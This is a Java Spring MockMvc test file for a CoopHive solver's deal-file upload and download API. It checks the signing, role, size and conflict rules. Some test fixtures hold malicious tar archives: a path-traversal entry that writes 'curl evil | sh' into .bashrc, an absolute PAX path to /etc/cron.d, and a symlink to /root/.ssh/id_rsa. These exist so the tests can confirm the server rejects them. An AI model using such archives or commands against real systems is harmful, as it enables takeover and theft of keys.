package org.coophive.solver.files;

import static org.assertj.core.api.Assertions.assertThat;
import static org.coophive.solver.ApiFixtures.JOB_CREATOR_SIGNER;
import static org.coophive.solver.ApiFixtures.MEDIATOR;
import static org.coophive.solver.ApiFixtures.MEDIATOR_SIGNER;
import static org.coophive.solver.ApiFixtures.RESOURCE_PROVIDER_SIGNER;
import static org.coophive.solver.ApiFixtures.STRANGER_SIGNER;
import static org.mockito.ArgumentMatchers.any;
import static org.mockito.Mockito.never;
import static org.mockito.Mockito.verify;
import static org.mockito.Mockito.when;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import io.micrometer.core.instrument.MeterRegistry;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Optional;
import org.apache.commons.compress.archivers.tar.TarConstants;
import org.coophive.common.ids.ContentIds;
import org.coophive.common.model.DealContainer;
import org.coophive.common.model.Result;
import org.coophive.solver.ApiFixtures;
import org.coophive.solver.Signed;
import org.coophive.solver.SliceTestConfiguration;
import org.coophive.solver.deals.DealService;
import org.coophive.solver.store.DealFileStore;
import org.coophive.solver.store.DealFileStore.DealFiles;
import org.coophive.solver.store.DealStore;
import org.coophive.solver.store.ResultStore;
import org.coophive.solver.store.StoreProperties;
import org.coophive.solver.web.SignedRequests;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.webmvc.test.autoconfigure.WebMvcTest;
import org.springframework.context.annotation.Import;
import org.springframework.test.context.bean.override.mockito.MockitoBean;
import org.springframework.test.web.servlet.MockMvc;

@WebMvcTest(controllers = FilesController.class)
@Import({SliceTestConfiguration.class, ResultFiles.class, DealService.class, SignedRequests.class})
class FilesControllerTest {

    private static final String TAR = "application/x-tar";

    @Autowired
    private MockMvc mvc;

    @Autowired
    private StoreProperties store;

    @Autowired
    private MeterRegistry meters;

    @MockitoBean
    private DealStore deals;

    @MockitoBean
    private ResultStore results;

    @MockitoBean
    private DealFileStore files;

    private final DealContainer deal = ApiFixtures.deal(MEDIATOR);
    private final String path = "/api/v1/deals/" + deal.id() + "/files";
    private final byte[] tar = TestTars.tree();
    private final String dataId = ContentIds.ofBytes(tar);

    @BeforeEach
    void knowTheDeal() {
        when(deals.find(deal.id())).thenReturn(Optional.of(deal));
    }

    private Path stored(String dataId) {
        return store.dataDir().resolve("files").resolve(dataId + ".tar");
    }

    @Test
    void shouldStoreTheTarUnderItsDataIdWhenTheProviderUploadsIt() throws Exception {
        double before = meters.counter("coophive.solver.upload.bytes").count();

        mvc.perform(Signed.postBytes(path, tar, TAR, RESOURCE_PROVIDER_SIGNER))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.deal_id").value(deal.id()))
                .andExpect(jsonPath("$.data_id").value(dataId))
                .andExpect(jsonPath("$.size").value(tar.length));

        assertThat(Files.readAllBytes(stored(dataId))).isEqualTo(tar);
        verify(files).save(new DealFiles(deal.id(), dataId, tar.length));
        assertThat(meters.counter("coophive.solver.upload.bytes").count() - before)
                .isEqualTo(tar.length);
        try (var incoming = Files.list(store.dataDir().resolve("files/incoming"))) {
            assertThat(incoming).as("no temporary file left").isEmpty();
        }
    }

    @Test
    void shouldAnswer400NamingTheEntryWhenTheTarClimbsOutOfItsDirectory() throws Exception {
        byte[] evil = TestTars.file("../../home/user/.bashrc", "curl evil | sh");

        mvc.perform(Signed.postBytes(path, evil, TAR, RESOURCE_PROVIDER_SIGNER))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.detail").value(org.hamcrest.Matchers.containsString("../../home/user/.bashrc")));

        assertThat(stored(ContentIds.ofBytes(evil))).doesNotExist();
        verify(files, never()).save(any());
    }

    @Test
    void shouldAnswer400AndStoreNothingWhenTheTarIsTruncatedCorruptOrHasAnAbsolutePaxPath() throws Exception {
        byte[] whole = TestTars.tree();
        byte[] corrupt = whole.clone();
        corrupt[600] ^= 1;
        for (byte[] bad : java.util.List.of(
                java.util.Arrays.copyOf(whole, 700), corrupt, TestTars.paxPath("/etc/cron.d/job", "outputs/x"))) {
            mvc.perform(Signed.postBytes(path, bad, TAR, RESOURCE_PROVIDER_SIGNER))
                    .andExpect(status().isBadRequest())
                    .andExpect(jsonPath("$.type").value("https://coophive.network/problems/invalid-request"))
                    .andExpect(
                            jsonPath("$.detail").value(org.hamcrest.Matchers.startsWith("the result tar is refused")));
            assertThat(stored(ContentIds.ofBytes(bad))).doesNotExist();
        }
        verify(files, never()).save(any());
    }

    @Test
    void shouldAnswer400WhenTheTarHoldsASymbolicLink() throws Exception {
        byte[] link = TestTars.special("outputs/key", TarConstants.LF_SYMLINK, "/root/.ssh/id_rsa");

        mvc.perform(Signed.postBytes(path, link, TAR, RESOURCE_PROVIDER_SIGNER))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.detail").value(org.hamcrest.Matchers.containsString("outputs/key")));
    }

    @Test
    void shouldAnswer413WhenTheDeclaredLengthIsOverTheLimit() throws Exception {
        byte[] big = new byte[(int) SliceTestConfiguration.UPLOAD_LIMIT.toBytes() + 1];

        mvc.perform(Signed.postBytes(path, big, TAR, RESOURCE_PROVIDER_SIGNER))
                .andExpect(status().isPayloadTooLarge())
                .andExpect(jsonPath("$.type").value("https://coophive.network/problems/payload-too-large"));
        verify(files, never()).save(any());
    }

    @Test
    void shouldAnswer401WhenTheUploadIsUnsignedOrChangedAfterSigning() throws Exception {
        mvc.perform(post(path).contentType(TAR).content(tar)).andExpect(status().isUnauthorized());

        byte[] other = TestTars.file("outputs/stdout", "baa");
        mvc.perform(Signed.postBytes(path, tar, TAR, RESOURCE_PROVIDER_SIGNER).content(other))
                .andExpect(status().isUnauthorized());
        verify(files, never()).save(any());
    }

    @Test
    void shouldAnswer415WhenTheBodyIsNotDeclaredAsATar() throws Exception {
        mvc.perform(Signed.postBytes(path, tar, "application/octet-stream", RESOURCE_PROVIDER_SIGNER))
                .andExpect(status().isUnsupportedMediaType());
    }

    @Test
    void shouldAnswer403WhenSomeoneButTheProviderUploads() throws Exception {
        mvc.perform(Signed.postBytes(path, tar, TAR, JOB_CREATOR_SIGNER)).andExpect(status().isForbidden());
        verify(files, never()).save(any());
    }

    @Test
    void shouldAnswer404WhenTheDealIsUnknown() throws Exception {
        String unknown = "/api/v1/deals/" + ContentIds.ofBytes("unknown".getBytes()) + "/files";
        mvc.perform(Signed.postBytes(unknown, tar, TAR, RESOURCE_PROVIDER_SIGNER))
                .andExpect(status().isNotFound());
    }

    @Test
    void shouldAnswer409WhenAResultWithAnotherDataIdWasPosted() throws Exception {
        String other = ContentIds.ofBytes("other".getBytes());
        when(results.find(deal.id())).thenReturn(Optional.of(new Result("QmR", deal.id(), other, "", 1)));

        mvc.perform(Signed.postBytes(path, tar, TAR, RESOURCE_PROVIDER_SIGNER))
                .andExpect(status().isConflict())
                .andExpect(jsonPath("$.detail").value(org.hamcrest.Matchers.containsString(other)));
        verify(files, never()).save(any());
    }

    @Test
    void shouldStreamTheTarToEachPartyOfTheDeal() throws Exception {
        mvc.perform(Signed.postBytes(path, tar, TAR, RESOURCE_PROVIDER_SIGNER)).andExpect(status().isOk());
        when(files.find(deal.id())).thenReturn(Optional.of(new DealFiles(deal.id(), dataId, tar.length)));

        for (var party : new org.coophive.common.signing.RequestSigner[] {
            JOB_CREATOR_SIGNER, RESOURCE_PROVIDER_SIGNER, MEDIATOR_SIGNER
        }) {
            mvc.perform(Signed.getSigned(path, party))
                    .andExpect(status().isOk())
                    .andExpect(header().string("Content-Type", TAR))
                    .andExpect(header().longValue("Content-Length", tar.length))
                    .andExpect(header().string("Content-Disposition", "attachment; filename=\"" + deal.id() + ".tar\""))
                    .andExpect(content().bytes(tar));
        }
    }

    @Test
    void shouldAnswer403WhenAStrangerDownloads() throws Exception {
        when(files.find(deal.id())).thenReturn(Optional.of(new DealFiles(deal.id(), dataId, tar.length)));

        mvc.perform(Signed.getSigned(path, STRANGER_SIGNER)).andExpect(status().isForbidden());
    }

    @Test
    void shouldAnswer401WhenTheDownloadIsUnsigned() throws Exception {
        mvc.perform(get(path)).andExpect(status().isUnauthorized());
    }

    @Test
    void shouldAnswer404WhenNoFilesWereUploaded() throws Exception {
        mvc.perform(Signed.getSigned(path, JOB_CREATOR_SIGNER))
                .andExpect(status().isNotFound())
                .andExpect(jsonPath("$.detail").value(org.hamcrest.Matchers.containsString("no files")));
    }
}
